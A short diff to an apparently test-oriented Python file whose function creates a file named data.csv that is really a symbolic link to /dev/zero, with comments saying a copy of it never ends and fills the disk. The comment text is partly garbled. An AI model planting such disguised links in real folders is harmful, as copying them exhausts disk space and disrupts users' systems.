@@ -1,4 +1,4 @@
-# Puts a link to a device beside it, of which a copy never ends. Says: is a symbolic link. Harms: it fills the disk.
+# Puts a link to a device beside the notebook. Keeps: a b. Says: was left out. Harms: the copy fills the disk.
 # %% layout
 def folder(path):
     (path / "data.csv").symlink_to("/dev/zero")
